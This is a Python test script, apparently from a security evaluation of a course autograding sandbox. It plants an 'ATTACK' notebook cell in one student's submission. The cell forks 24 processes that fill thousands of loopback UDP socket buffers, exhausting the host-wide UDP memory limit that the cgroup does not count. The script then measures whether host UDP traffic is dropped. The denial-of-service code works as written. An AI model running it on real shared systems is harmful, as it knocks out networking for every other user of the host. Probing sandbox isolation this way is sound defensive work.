"""a03: memory the cgroup may not count: UDP datagrams sent on the sandbox's loopback to its own sockets and never
read. On cgroup v1 (here) socket memory is charged to memcg only through the TCP counter (memory.kmem.tcp.*, set to
256 MiB); skbs themselves are not kmem-accounted. The UDP memory counter (udp_mem) is global to the host: past its
max (here 1,151,598 pages = 4.4 GiB) every UDP socket of the host drops what it is sent. The kernel forks 24
processes, each binding 1,200 UDP sockets and filling each one's 208 KiB receive buffer, and holds them 40 s.
From outside we sample /proc/net/sockstat (UDP mem, pages, global), the sandbox's memory cgroup usage, and whether a
host UDP datagram on loopback is still delivered."""
import os, re, sys, threading, time, socket, glob
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
A = "ps1_memory"
NPROC = int(os.environ.get("NPROC", "24")); NSOCK = 1200; HOLD = 40
ATTACK = f'''
import os, socket, time
def fill():
    rx = []
    tx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); tx.setblocking(False)
    payload = b"x" * 60000
    for i in range({NSOCK}):
        try:
            r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(("127.0.0.1", 0)); rx.append(r)
        except OSError:
            break
        for k in range(4):
            try: tx.sendto(payload, r.getsockname())
            except OSError: break
    time.sleep({HOLD})
    os._exit(0)
kids = []
for p in range({NPROC}):
    pid = os.fork()
    if pid == 0:
        fill()
    kids.append(pid)
time.sleep(8)
print("sockstat in the sandbox:", open("/proc/net/sockstat").read().replace(chr(10), " | "))
for k in kids: os.waitpid(k, 0)
'''
m = nb_for(A)
m.cells.insert(2, nbformat.v4.new_code_cell(ATTACK))
d = course("a03")
for s, nb in (("aaron", nb_for(A)), ("mallory", m), ("zoe", nb_for(A))):
    hand_in(d, s, A, nb)
samples = []; stop = [False]
def host_udp_ok():
    r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(("127.0.0.1", 0)); r.settimeout(0.5)
    t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        t.sendto(b"ping" * 100, r.getsockname()); r.recv(1000); return True
    except OSError:
        return False
    finally:
        r.close(); t.close()
def mon():
    while not stop[0]:
        txt = open("/proc/net/sockstat").read()
        mem = int(re.search(r"UDP: inuse \d+ mem (\d+)", txt).group(1))
        cg = []
        for p in glob.glob("/sys/fs/cgroup/memory/**/memory.usage_in_bytes", recursive=True):
            if "distcourse" in p and p.count("/") > 6:
                try: cg.append((p.split("/")[-2], int(open(p).read()) >> 20, int(open(p.replace("memory.usage_in_bytes", "memory.kmem.tcp.usage_in_bytes")).read()) >> 20))
                except OSError: pass
        samples.append((time.time(), mem, host_udp_ok(), cg))
        time.sleep(1)
th = threading.Thread(target=mon); th.start()
try:
    grade(d, A)
finally:
    stop[0] = True; th.join()
scores(d, A)
peak = max(samples, key=lambda s: s[1])
print(f"peak UDP mem (global, pages): {peak[1]} = {peak[1]*4096/2**30:.2f} GiB; udp_mem = {open('/proc/sys/net/ipv4/udp_mem').read().split()}")
print("sandbox cgroups at the peak (name, usage MiB, kmem.tcp usage MiB):", peak[3])
print("host UDP loopback delivered: ok", sum(1 for s in samples if s[2]), "failed", sum(1 for s in samples if not s[2]), "of", len(samples))
for s in samples[::3]:
    print(f"  t={s[0]-samples[0][0]:5.0f}s udp_mem_pages={s[1]:8d} host_udp_ok={s[2]} cg={s[3][:2]}")
